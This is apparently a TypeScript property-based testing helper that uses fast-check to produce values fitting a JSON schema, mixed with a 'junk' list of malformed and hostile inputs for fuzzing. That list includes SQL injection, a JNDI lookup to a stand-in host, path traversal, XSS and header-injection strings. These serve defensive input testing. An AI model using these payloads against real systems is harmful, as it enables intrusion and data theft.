/** Values for a JSON schema: mostly such as it allows, and here and there what it does not. */
import fc from "fast-check";

export type Schema = Readonly<Record<string, unknown>>;

/** What breaks programs that take a text, a number or an object for what it says it is. */
const JUNK: readonly unknown[] = [
  null,
  true,
  -1,
  0,
  1e308,
  2 ** 63,
  0.1,
  "",
  " ",
  "\u0000",
  "\ud800",
  "'; DROP TABLE report; --",
  "$\u007bjndi:ldap://evil.test/a}",
  "../../etc/passwd",
  "<script>alert(1)</script>",
  "\r\nset-cookie: a=b",
  "%00%0d%0a",
  "\u202etxt",
  "x".repeat(5_000),
  "2019-02-30",
  "-999999-01-01T00:00:00Z",
  [],
  {},
  [[[[[[]]]]]],
  { $ne: null },
  { constructor: { prototype: {} } },
];

export interface Words {
  /** Ids of records that are there. */
  readonly ids: readonly string[];
  /** Texts that mean something to the desk. */
  readonly texts: readonly string[];
  readonly schemas: Readonly<Record<string, Schema>>;
}

const DEEPEST = 5;

export function valuesFor(schema: Schema, words: Words, depth = 0): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 12, arbitrary: fittingValue(schema, words, depth) },
    { weight: 1, arbitrary: fc.constantFrom(...JUNK) },
  );
}

function fittingValue(schema: Schema, words: Words, depth: number): fc.Arbitrary<unknown> {
  const { $ref, anyOf, oneOf, allOf, enum: options, const: only, type } = schema;
  if (depth > DEEPEST) return fc.constant(undefined);
  if (typeof $ref === "string")
    return fittingValue(words.schemas[$ref.split("/").at(-1) ?? ""] ?? {}, words, depth + 1);
  if ("const" in schema) return fc.constant(only);
  if (Array.isArray(options) && options.length > 0) return fc.constantFrom(...options);
  const choices = [anyOf, oneOf, allOf].find(Array.isArray);
  if (choices && choices.length > 0)
    return fc.oneof(...choices.map((choice: Schema) => valuesFor(choice, words, depth + 1)));
  if (type === "object") return objectOf(schema, words, depth);
  if (type === "array") return fc.array(valuesFor(partOf(schema.items), words, depth + 1), { maxLength: 3 });
  if (type === "integer" || type === "number") return numberOf(schema);
  if (type === "boolean") return fc.boolean();
  if (type === "string") return textOf(schema, words);
  return fc.constantFrom(...JUNK);
}

function partOf(value: unknown): Schema {
  return typeof value === "object" && value !== null ? Object.fromEntries(Object.entries(value)) : {};
}

function objectOf(schema: Schema, words: Words, depth: number): fc.Arbitrary<unknown> {
  const properties = Object.entries(partOf(schema.properties));
  const required = new Set(Array.isArray(schema.required) ? schema.required.map(String) : []);
  const fields = properties.map(([name, part]) => {
    const value = valuesFor(partOf(part), words, depth + 1);
    const mayLack = fc.option(value, { freq: required.has(name) ? 20 : 1, nil: undefined });
    return mayLack.map((one): [string, unknown] => [name, one]);
  });
  const extra = fc.oneof(
    { weight: 20, arbitrary: fc.constant<[string, unknown][]>([]) },
    { weight: 1, arbitrary: fc.constantFrom<[string, unknown][]>([["unknown", 1]], [["toString", "x"]]) },
  );
  return fc
    .tuple(fc.tuple(...fields), extra)
    .map(([own, more]) => Object.fromEntries([...own, ...more].filter(([, value]) => value !== undefined)));
}

function numberOf({ type, minimum, maximum }: Schema): fc.Arbitrary<unknown> {
  const min = typeof minimum === "number" ? Math.max(minimum, -1e6) : -1_000;
  const max = typeof maximum === "number" ? Math.min(maximum, 1e6) : 1e5;
  if (type === "integer") return fc.integer({ min: Math.ceil(min), max: Math.floor(Math.max(min, max)) });
  return fc.double({ min, max: Math.max(min, max), noNaN: true });
}

function textOf({ format }: Schema, { ids, texts }: Words): fc.Arbitrary<unknown> {
  if (format === "uuid") return fc.oneof(fc.constantFrom(...ids), fc.uuid());
  if (format === "uri") return fc.webUrl();
  return fc.oneof(fc.constantFrom(...texts, ...ids), fc.string({ unit: "binary", maxLength: 20 }));
}
